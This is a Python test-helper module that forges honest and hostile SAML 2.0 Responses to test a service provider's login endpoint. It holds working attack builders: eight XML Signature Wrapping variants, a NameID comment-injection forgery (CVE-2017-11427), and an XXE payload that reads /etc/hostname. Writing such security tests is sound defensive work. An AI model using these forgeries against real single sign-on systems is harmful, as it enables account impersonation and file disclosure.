"""Forge SAML 2.0 Responses in tests, honest or hostile, to attack our Assertion Consumer Service.

An attack test must build the exact bytes an attacker would post, signed with keys made at test
time, so nothing here reads files or holds key material. The pieces compose in the order a real
IdP (or attacker) applies them::

    resp = build_response(claims)          # unsigned Response holding one Assertion
    sign_assertion(resp, idp)              # enveloped RSA-SHA256 signature after the Issuer
    encrypt_assertion(resp, sp.cert_pem)   # optional: EncryptedAssertion to the SP's certificate
    field = to_b64(resp)                   # the SAMLResponse POST field

Mutating helpers change the tree in place and return the Response so calls chain; `xsw` returns
a new tree and leaves its input alone. Timestamps come from `Claims.now`, never the wall clock,
so expiry tests are deterministic; only ids and keys are random.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import hashlib
import secrets
from dataclasses import dataclass, field
from typing import Literal

import xmlsec
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree

NS_SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
NS_XENC = "http://www.w3.org/2001/04/xmlenc#"
NSMAP = {"samlp": NS_SAMLP, "saml": NS_SAML, "ds": NS_DS, "xenc": NS_XENC}

STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
CM_BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
NAMEID_EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
AC_PASSWORD_PROTECTED = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
ATTRNAME_BASIC = "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"

# Defaults for the parties in our tests; any Claims field can be overridden.
IDP_ENTITY_ID = "https://idp.example.test/saml/metadata"
SP_ENTITY_ID = "https://bascule.example.test/saml/metadata"
ACS_URL = "https://bascule.example.test/saml/acs"

SignatureAlgorithm = Literal["rsa-sha256", "rsa-sha1"]
DigestAlgorithm = Literal["sha256", "sha1"]
Cipher = Literal["aes256-cbc", "aes128-gcm"]

_SIGNATURE_TRANSFORMS = {
    "rsa-sha256": xmlsec.Transform.RSA_SHA256,
    "rsa-sha1": xmlsec.Transform.RSA_SHA1,
}
_DIGEST_TRANSFORMS = {"sha256": xmlsec.Transform.SHA256, "sha1": xmlsec.Transform.SHA1}
# Both are decrypted by python3-saml (it hands EncryptedData to xmlsec, which also does GCM).
_CIPHERS = {
    "aes256-cbc": (xmlsec.Transform.AES256, 256),
    "aes128-gcm": (xmlsec.Transform.AES128_GCM, 128),
}


def _q(ns: str, local: str) -> str:
    return f"{{{ns}}}{local}"


def new_id() -> str:
    """A fresh SAML ID: xs:ID must not start with a digit, hence the underscore."""
    return "_" + secrets.token_hex(16)


def saml_time(epoch: float) -> str:
    """Format a POSIX time as SAML's UTC xs:dateTime, to the second as most IdPs send it."""
    return dt.datetime.fromtimestamp(epoch, dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


@dataclass(frozen=True)
class KeyPair:
    """An RSA key and its self-signed certificate, both PEM, made fresh for each test run."""

    private_key_pem: str
    cert_pem: str


def make_key_pair(common_name: str = "test-idp") -> KeyPair:
    """Generate an RSA-2048 key and self-signed certificate, so no key material is committed."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=365))
        .sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    return KeyPair(key_pem.decode(), cert.public_bytes(serialization.Encoding.PEM).decode())


@dataclass(kw_only=True)
class Claims:
    """What the IdP asserts. Attacks are an honest Claims with one field replaced.

    `now` is the IdP's clock: IssueInstant, AuthnInstant and NotBefore are `now`, and both
    NotOnOrAfter values are `now + lifetime`. Shift `now` to forge expired or future assertions.
    `in_response_to=None` makes an unsolicited (IdP-initiated) response. An empty `attributes`
    omits the AttributeStatement, which the schema forbids to be empty.
    """

    now: float
    in_response_to: str | None
    lifetime: float = 300
    issuer: str = IDP_ENTITY_ID
    destination: str = ACS_URL
    recipient: str = ACS_URL
    audience: str = SP_ENTITY_ID
    name_id: str = "alice@corp.example"
    name_id_format: str = NAMEID_EMAIL
    attributes: dict[str, list[str]] = field(default_factory=dict)
    authn_context_class_ref: str = AC_PASSWORD_PROTECTED
    session_index: str = field(default_factory=new_id)
    response_id: str = field(default_factory=new_id)
    assertion_id: str = field(default_factory=new_id)

    @property
    def issue_instant(self) -> str:
        return saml_time(self.now)

    @property
    def not_before(self) -> str:
        return saml_time(self.now)

    @property
    def not_on_or_after(self) -> str:
        return saml_time(self.now + self.lifetime)


def _sub(
    parent: etree._Element, ns: str, local: str, text: str | None = None, **attrs: str
) -> etree._Element:
    element = etree.SubElement(parent, _q(ns, local), attrs)
    element.text = text
    return element


def build_assertion(claims: Claims) -> etree._Element:
    """An unsigned Assertion in schema order; it declares its own namespace so it can be moved
    or encrypted on its own without losing the `saml:` prefix."""
    assertion = etree.Element(
        _q(NS_SAML, "Assertion"),
        {"ID": claims.assertion_id, "Version": "2.0", "IssueInstant": claims.issue_instant},
        nsmap={"saml": NS_SAML},
    )
    _sub(assertion, NS_SAML, "Issuer", claims.issuer)
    subject = _sub(assertion, NS_SAML, "Subject")
    _sub(subject, NS_SAML, "NameID", claims.name_id, Format=claims.name_id_format)
    confirmation = _sub(subject, NS_SAML, "SubjectConfirmation", Method=CM_BEARER)
    data = _sub(
        confirmation,
        NS_SAML,
        "SubjectConfirmationData",
        NotOnOrAfter=claims.not_on_or_after,
        Recipient=claims.recipient,
    )
    if claims.in_response_to is not None:
        data.set("InResponseTo", claims.in_response_to)
    conditions = _sub(
        assertion,
        NS_SAML,
        "Conditions",
        NotBefore=claims.not_before,
        NotOnOrAfter=claims.not_on_or_after,
    )
    restriction = _sub(conditions, NS_SAML, "AudienceRestriction")
    _sub(restriction, NS_SAML, "Audience", claims.audience)
    authn = _sub(
        assertion,
        NS_SAML,
        "AuthnStatement",
        AuthnInstant=claims.issue_instant,
        SessionIndex=claims.session_index,
    )
    context = _sub(authn, NS_SAML, "AuthnContext")
    _sub(context, NS_SAML, "AuthnContextClassRef", claims.authn_context_class_ref)
    if claims.attributes:
        statement = _sub(assertion, NS_SAML, "AttributeStatement")
        for name, values in claims.attributes.items():
            attribute = _sub(statement, NS_SAML, "Attribute", Name=name, NameFormat=ATTRNAME_BASIC)
            for value in values:
                _sub(attribute, NS_SAML, "AttributeValue", value)
    return assertion


def build_response(claims: Claims) -> etree._Element:
    """An unsigned, successful Response holding one Assertion, as an IdP sends to our ACS."""
    response = etree.Element(
        _q(NS_SAMLP, "Response"),
        {
            "ID": claims.response_id,
            "Version": "2.0",
            "IssueInstant": claims.issue_instant,
            "Destination": claims.destination,
        },
        nsmap={"samlp": NS_SAMLP, "saml": NS_SAML},
    )
    if claims.in_response_to is not None:
        response.set("InResponseTo", claims.in_response_to)
    _sub(response, NS_SAML, "Issuer", claims.issuer)
    status = _sub(response, NS_SAMLP, "Status")
    _sub(status, NS_SAMLP, "StatusCode", Value=STATUS_SUCCESS)
    response.append(build_assertion(claims))
    return response


def _child(parent: etree._Element, ns: str, local: str) -> etree._Element:
    found = parent.find(_q(ns, local))
    if found is None:
        raise ValueError(f"{parent.tag} has no direct {local} child")
    return found


def assertion_of(response: etree._Element) -> etree._Element:
    """The Response's direct Assertion child (the one an honest response has)."""
    return _child(response, NS_SAML, "Assertion")


def sign(
    element: etree._Element,
    key_pair: KeyPair,
    *,
    algorithm: SignatureAlgorithm = "rsa-sha256",
    digest: DigestAlgorithm = "sha256",
) -> etree._Element:
    """Add an enveloped signature over `element` (by its ID), right after its Issuer.

    This is the shape real IdPs produce and python3-saml expects: exclusive c14n *without
    comments*, one Reference `#ID` with the enveloped and exc-c14n transforms, and the signing
    certificate in KeyInfo/X509Data. Returns the new ds:Signature element.
    """
    signature = xmlsec.template.create(
        element, xmlsec.Transform.EXCL_C14N, _SIGNATURE_TRANSFORMS[algorithm], ns="ds"
    )
    issuer = element.find(_q(NS_SAML, "Issuer"))
    if issuer is None:
        element.insert(0, signature)
    else:
        issuer.addnext(signature)
    reference = xmlsec.template.add_reference(
        signature, _DIGEST_TRANSFORMS[digest], uri="#" + element.get("ID", "")
    )
    xmlsec.template.add_transform(reference, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(reference, xmlsec.Transform.EXCL_C14N)
    xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(signature))
    # Reference URIs resolve through registered ID attributes, not by searching for "ID".
    xmlsec.tree.add_ids(element.getroottree().getroot(), ["ID"])
    key = xmlsec.Key.from_memory(key_pair.private_key_pem.encode(), xmlsec.KeyFormat.PEM, None)
    key.load_cert_from_memory(key_pair.cert_pem.encode(), xmlsec.KeyFormat.CERT_PEM)
    context = xmlsec.SignatureContext()
    context.key = key
    context.sign(signature)
    return signature


def sign_assertion(
    response: etree._Element,
    key_pair: KeyPair,
    *,
    algorithm: SignatureAlgorithm = "rsa-sha256",
    digest: DigestAlgorithm = "sha256",
) -> etree._Element:
    """Sign the Response's Assertion (what `wantAssertionsSigned` asks for); returns `response`."""
    sign(assertion_of(response), key_pair, algorithm=algorithm, digest=digest)
    return response


def sign_response(
    response: etree._Element,
    key_pair: KeyPair,
    *,
    algorithm: SignatureAlgorithm = "rsa-sha256",
    digest: DigestAlgorithm = "sha256",
) -> etree._Element:
    """Sign the whole Response. Call after `sign_assertion` when both are wanted, as IdPs do."""
    sign(response, key_pair, algorithm=algorithm, digest=digest)
    return response


def verify_signatures(document: etree._Element | bytes, cert_pem: str) -> list[bool]:
    """Check each ds:Signature cryptographically with xmlsec against `cert_pem`, in document order.

    Attack tests use it to show a forged response is refused for its *structure* (the wrapped
    signature still verifies) rather than because the toolkit broke the signature.
    """
    root = etree.fromstring(to_bytes(document))
    xmlsec.tree.add_ids(root, ["ID"])
    results = []
    for signature in root.iter(_q(NS_DS, "Signature")):
        context = xmlsec.SignatureContext()
        context.key = xmlsec.Key.from_memory(cert_pem.encode(), xmlsec.KeyFormat.CERT_PEM, None)
        try:
            context.verify(signature)
        except xmlsec.Error:
            results.append(False)
        else:
            results.append(True)
    return results


def reference_digests_match(document: etree._Element | bytes) -> list[bool]:
    """Recompute each signature's reference digest by the XML-DSig rules, in document order.

    The enveloped transform drops the signature only from inside the element it references.
    xmlsec instead drops the whole Signature subtree, so a referenced element placed *inside*
    its signature (XSW1, 6, 8) hashes to nothing there; this check shows the forgery is exact
    anyway, and so would verify under a library that implements the transform literally.
    """
    root = etree.fromstring(to_bytes(document))
    results = []
    for signature in list(root.iter(_q(NS_DS, "Signature"))):
        reference = _child(_child(signature, NS_DS, "SignedInfo"), NS_DS, "Reference")
        targets = root.xpath("//*[@ID=$id]", id=reference.get("URI", "")[1:])
        if len(targets) != 1:
            results.append(False)
            continue
        target = targets[0]
        parent = signature.getparent()
        position = parent.index(signature)
        enveloped = any(node is signature for node in target.iterdescendants())
        if enveloped:
            parent.remove(signature)
        canonical = etree.tostring(target, method="c14n", exclusive=True, with_comments=False)
        if enveloped:
            parent.insert(position, signature)
        method = _child(reference, NS_DS, "DigestMethod").get("Algorithm", "")
        digest = hashlib.sha1 if method.endswith("#sha1") else hashlib.sha256
        expected = _child(reference, NS_DS, "DigestValue").text or ""
        results.append(base64.b64encode(digest(canonical).digest()).decode() == expected.strip())
    return results


def encrypt_assertion(
    response: etree._Element, sp_cert_pem: str, *, cipher: Cipher = "aes256-cbc"
) -> etree._Element:
    """Replace the Assertion (signed or not) by an EncryptedAssertion to the SP's certificate.

    A random session key encrypts the Assertion element; RSA-OAEP (MGF1, SHA-1 digest, the
    XML-Enc default every SP supports) wraps that key in an EncryptedKey inside
    EncryptedData/KeyInfo, where python3-saml looks for it. Returns `response`.
    """
    assertion = assertion_of(response)
    method, bits = _CIPHERS[cipher]
    encrypted_assertion = etree.Element(_q(NS_SAML, "EncryptedAssertion"))
    assertion.addprevious(encrypted_assertion)
    encrypted_assertion.append(assertion)  # moves it; encrypt_xml then replaces it in place
    template = xmlsec.template.encrypted_data_create(
        response, method, type=xmlsec.EncryptionType.ELEMENT, ns="xenc"
    )
    xmlsec.template.encrypted_data_ensure_cipher_value(template)
    key_info = xmlsec.template.encrypted_data_ensure_key_info(template, ns="ds")
    encrypted_key = xmlsec.template.add_encrypted_key(key_info, xmlsec.Transform.RSA_OAEP)
    xmlsec.template.encrypted_data_ensure_cipher_value(encrypted_key)
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_memory(sp_cert_pem.encode(), xmlsec.KeyFormat.CERT_PEM, None))
    context = xmlsec.EncryptionContext(manager)
    context.key = xmlsec.Key.generate(xmlsec.KeyData.AES, bits, xmlsec.KeyDataType.SESSION)
    context.encrypt_xml(template, assertion)
    return response


def to_bytes(document: etree._Element | bytes) -> bytes:
    """Serialise a forged element exactly once, without pretty-printing (whitespace is signed)."""
    if isinstance(document, bytes):
        return document
    serialised: bytes = etree.tostring(document)
    return serialised


def to_b64(document: etree._Element | bytes) -> str:
    """The SAMLResponse form field of the HTTP-POST binding."""
    return base64.b64encode(to_bytes(document)).decode("ascii")


def with_doctype(xml: bytes, entity: str | None = "file:///etc/hostname") -> bytes:
    """Prefix a DOCTYPE to a serialised Response, the XXE / entity-expansion vector.

    With `entity`, the DTD declares an external entity `xxe` at that URI and the NameID text is
    replaced by `&xxe;`, so an SP that resolves entities would sign in whoever the file names.
    With `entity=None` the DTD is internal and harmless: a DTD must be refused on sight anyway.
    The parser sees this before any signature check, so no valid signature is needed.
    """
    if entity is None:
        doctype = b'<!DOCTYPE samlp:Response [<!ENTITY greeting "hello">]>'
    else:
        doctype = b'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "' + entity.encode() + b'">]>'
        start = xml.index(b"<saml:NameID")
        open_end = xml.index(b">", start) + 1
        close = xml.index(b"</saml:NameID>", open_end)
        xml = xml[:open_end] + b"&xxe;" + xml[close:]
    if xml.startswith(b"<?xml"):
        declaration_end = xml.index(b"?>") + 2
        return xml[:declaration_end] + doctype + xml[declaration_end:]
    return doctype + xml


def inject_comment_in_name_id(response: etree._Element, after: str) -> etree._Element:
    """Split the NameID text with an empty comment right after the prefix `after`.

    `admin@corp.example.evil.example` becomes `admin@corp.example<!---->.evil.example`. The
    signature uses c14n *without comments*, so it covers the same bytes either way: an attacker
    who owns the IdP account `admin@corp.example.evil.example` injects the comment *after* the
    IdP signed, and the signature still verifies. An SP that reads only the first text node
    (`element.text` in lxml) then signs in `admin@corp.example` (CVE-2017-11427 and kin).
    Works before or after signing; returns `response`.
    """
    name_id = response.find(f".//{_q(NS_SAML, 'NameID')}")
    text = "" if name_id is None else name_id.text or ""
    if name_id is None or not text.startswith(after):
        raise ValueError(f"NameID does not start with {after!r}")
    name_id.text = after
    comment = etree.Comment("")
    comment.tail = text[len(after) :]
    name_id.insert(0, comment)
    return response


def _without_signature(element: etree._Element) -> etree._Element:
    """A copy of `element` minus its own enveloped signature: what its digest covers."""
    clone = copy.deepcopy(element)
    signature = clone.find(_q(NS_DS, "Signature"))
    if signature is not None:
        clone.remove(signature)
    return clone


def xsw(variant: int, signed_response: etree._Element, evil_claims: Claims) -> etree._Element:
    """Wrap a genuinely signed Response the eight ways of Somorovsky et al., "On Breaking SAML:
    Be Whoever You Want to Be" (USENIX Security 2012), in SAML Raider's placements.

    The evil content is a fresh unsigned Assertion (or Response, for 1-2) built from
    `evil_claims`, so it carries evil ids. The original signed element is kept, minus its
    signature, where the signature's `#ID` reference still finds it; a naive SP would read the
    evil element. Variants 1-2 need a signed Response; 3-8 a signed Assertion.

    1. Evil Response as root; the original Response (unsigned copy) inside the moved Signature.
    2. As 1, but the original Response copy sits before the Signature (detached signature).
    3. Evil Assertion inserted before the original signed Assertion.
    4. Evil Assertion wraps the original signed Assertion (appended as its last child).
    5. Evil Assertion takes the original's place and its Signature; the original Assertion
       (unsigned copy) is appended at the end of the Response.
    6. As 5, but the original Assertion copy goes inside that Signature.
    7. Evil Assertion inside samlp:Extensions (after the Issuer); the signed Assertion untouched.
    8. As 6, but the original Assertion copy is wrapped in a ds:Object inside the Signature.
    """
    if not 1 <= variant <= 8:
        raise ValueError("XSW variants are numbered 1 to 8")
    response = copy.deepcopy(signed_response)
    if variant in (1, 2):
        signature = response.find(_q(NS_DS, "Signature"))
        if signature is None:
            raise ValueError(f"XSW{variant} wraps a Response signature; sign the Response first")
        evil = build_response(evil_claims)
        original = _without_signature(response)
        _child(evil, NS_SAML, "Issuer").addnext(signature)
        if variant == 1:
            signature.append(original)
        else:
            signature.addprevious(original)
        return evil

    assertion = assertion_of(response)
    signature = assertion.find(_q(NS_DS, "Signature"))
    if signature is None:
        raise ValueError(f"XSW{variant} wraps an Assertion signature; sign the Assertion first")
    evil = build_assertion(evil_claims)
    if variant == 3:
        assertion.addprevious(evil)
    elif variant == 4:
        assertion.addprevious(evil)
        evil.append(assertion)
    elif variant == 7:
        extensions = etree.Element(_q(NS_SAMLP, "Extensions"))
        extensions.append(evil)
        _child(response, NS_SAML, "Issuer").addnext(extensions)
    else:  # 5, 6, 8: the evil Assertion carries the original signature
        original = _without_signature(assertion)
        assertion.addprevious(evil)
        response.remove(assertion)
        _child(evil, NS_SAML, "Issuer").addnext(signature)
        if variant == 5:
            response.append(original)
        elif variant == 6:
            signature.append(original)
        else:
            obj = etree.SubElement(signature, _q(NS_DS, "Object"))
            obj.append(original)
    return response
